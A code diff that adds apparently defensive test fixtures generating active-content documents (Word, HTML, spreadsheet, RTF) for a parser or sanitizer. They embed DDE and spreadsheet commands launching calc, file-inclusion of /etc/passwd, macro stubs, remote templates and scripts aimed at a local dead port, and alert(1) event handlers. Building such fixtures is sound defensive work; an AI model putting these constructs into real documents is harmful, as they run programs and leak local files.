@@ -140,6 +140,56 @@ def page_of_laughs() -> bytes:
     return f"<?xml version='1.0'?>{laughs()}<html><body><p>{GOOD_LINE}</p><p>&e;</p></body></html>".encode()
 
 
+# ── what would run or fetch ─────────────────────────────────────────────────────────────────────
+
+_PLACE = "http://127.0.0.1:9/planquet"
+
+
+def active_word() -> bytes:
+    """A Word document with macros, a template elsewhere, a field that starts a program and one that includes a file."""
+    field = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>域</w:t></w:r></w:fldSimple></w:p>'
+    fields = field.format("DDEAUTO c:\\\\cmd.exe &quot;/c calc&quot;") + field.format(
+        "INCLUDETEXT &quot;/etc/passwd&quot;"
+    )
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    related = f'<Relationship Id="r1" Type="{kind}" Target="{_PLACE}.dotm" TargetMode="External"/>'
+    buffer = io.BytesIO(docx(paragraph(GOOD_LINE) + fields))
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Shell")
+        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{related}</Relationships>")
+    return buffer.getvalue()
+
+
+def active_page() -> bytes:
+    """A web page with scripts, frames, styles, fonts, a redirect and images, all of which would be fetched or run."""
+    head = (
+        f'<meta http-equiv="refresh" content="0;url={_PLACE}"><base href="{_PLACE}">'
+        f'<link rel="stylesheet" href="{_PLACE}.css">'
+        f'<style>@import url({_PLACE});@font-face{{src:url({_PLACE}.woff)}}</style><script src="{_PLACE}.js"></script>'
+    )
+    body = f'<iframe src="file:///etc/passwd"></iframe><img src="{_PLACE}.png" onerror="alert(1)">'
+    return f"<html><head>{head}</head><body onload='alert(1)'><p>{GOOD_LINE}</p>{body}</body></html>".encode()
+
+
+def active_sheet() -> bytes:
+    """A workbook with formulas that would fetch a page, start a program, and read another workbook."""
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    formulas = (f'WEBSERVICE("{_PLACE}")', "cmd|'/c calc'!A0", "'/etc/[passwd]x'!A1", f'HYPERLINK("{_PLACE}")')
+    cells = "".join(
+        f'<c r="{letter}1" t="str"><f>{formula.replace(chr(34), "&quot;")}</f><v>{GOOD_LINE}{letter}</v></c>'
+        for letter, formula in zip("ABCD", formulas, strict=True)
+    )
+    content = f'<worksheet xmlns="{main}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
+    return replaced(xlsx({"表": [["甲", "乙"]]}), "xl/worksheets/s0.xml", content)
+
+
+def active_rtf() -> bytes:
+    """An RTF with an object that a program would open, a template elsewhere, and a field that includes a file."""
+    words = r"{\rtf1\ansi\ansicpg936{\*\template " + _PLACE + r".dotm}Section one\par"
+    field = r'{\field{\*\fldinst INCLUDETEXT "/etc/passwd"}{\fldrslt x}}'
+    return (words + field + r"{\object\objautlink\objupdate{\*\objdata 0105}{\result y}}}").encode()
+
+
 # ── nesting ─────────────────────────────────────────────────────────────────────────────────────
 
 
